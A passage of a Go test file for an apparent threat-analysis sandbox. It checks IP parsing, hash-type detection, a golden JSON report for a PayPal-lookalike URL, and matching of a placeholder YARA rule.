	if err != nil || rep.URL.IPClass != "documentation" || !hasIndicator(rep, "ipv6", "2001:db8::1") {
		t.Errorf("ipv6 %v %+v", err, rep)
	}
	if _, err := a.AnalyzeIP(context.Background(), "999.1.1.1"); err == nil {
		t.Error("bad IP accepted")
	}
}

func TestAnalyzeHash(t *testing.T) {
	a := newAnalyzer(t, sandbox.Options{})
	for in, algo := range map[string]string{
		"D41D8CD98F00B204E9800998ECF8427E":                                         "md5",
		"da39a3ee5e6b4b0d3255bfef95601890afd80709":                                 "sha1",
		"e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855":         "sha256",
		"T1481248F9366877C5CC40693174B9C83A7E2B378395C5489963A286034C477EF3699BF2": "tlsh",
		"3:AXGBicFlgVNhBGcL6wCrFQEv:AXGHsNhxLsr2C":                                 "ssdeep",
	} {
		rep, err := a.AnalyzeHash(context.Background(), in)
		if err != nil {
			t.Fatalf("%s: %v", in, err)
		}
		if rep.Hash.Algorithm != algo || rep.Kind != sandbox.KindHash || rep.Verdict != sandbox.VerdictClean || len(rep.Indicators) != 1 {
			t.Errorf("%s: %+v", in, rep)
		}
	}
	for _, bad := range []string{"", "xyz", "d41d8cd98f00b204e9800998ecf8427", "g41d8cd98f00b204e9800998ecf8427e"} {
		if _, err := a.AnalyzeHash(context.Background(), bad); err == nil {
			t.Errorf("%q accepted", bad)
		}
	}
}

// TestURLReportGolden pins the JSON shape of a report, the contract the
// API and UI build on. Run with -update to rewrite.
func TestURLReportGolden(t *testing.T) {
	fixed := time.Date(2025, 1, 1, 0, 0, 0, 0, time.UTC)
	a := newAnalyzer(t, sandbox.Options{Brands: []string{"paypal.com"}, Now: func() time.Time { return fixed }})
	rep, err := a.AnalyzeURL(context.Background(), "http://paypal-secure.com.account-verify.top:8080/login?next=https://paypal.com")
	if err != nil {
		t.Fatal(err)
	}
	got, err := json.MarshalIndent(rep, "", "  ")
	if err != nil {
		t.Fatal(err)
	}
	golden := filepath.Join("testdata", "url_report.golden.json")
	if *update {
		if err := os.WriteFile(golden, append(got, '\n'), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(golden)
	if err != nil {
		t.Fatal(err)
	}
	if string(bytes.TrimSpace(want)) != string(got) {
		t.Errorf("report differs from %s (run with -update):\n%s", golden, got)
	}
}

func TestYARA(t *testing.T) {
	rules := `rule EvilMarker : demo {
  meta:
    score = 80
  strings:
    $a = "EVIL_MARKER_42"
  condition:
    $a
}`
	a, err := sandbox.New(sandbox.Options{YARARules: rules})
	if err != nil {
		t.Fatal(err)
	}
	defer a.Close()
	rep := analyze(t, a, "m.txt", []byte("hello EVIL_MARKER_42 world"))
	if !sandbox.YARAEnabled() {
		if rep.YARA == nil || rep.YARA.Enabled || rep.YARA.Message != "YARA disabled: built without the yara tag" {
			t.Errorf("yara %+v", rep.YARA)
		}
		return
	}
	if len(rep.YARA.Matches) != 1 || rep.YARA.Matches[0].Rule != "EvilMarker" || rep.Verdict != sandbox.VerdictMalicious {
		t.Errorf("yara %+v verdict %s", rep.YARA, rep.Verdict)
	}
	_, err = sandbox.New(sandbox.Options{YARARules: "rule ok { condition: true }\nrule bad {\n  condition:\n    $missing\n}"})
	// libyara reports the line where it detects the error: the rule's closing brace.
	if err == nil || !strings.Contains(err.Error(), "line 5") {
		t.Errorf("compile error without line number: %v", err)
	}
}
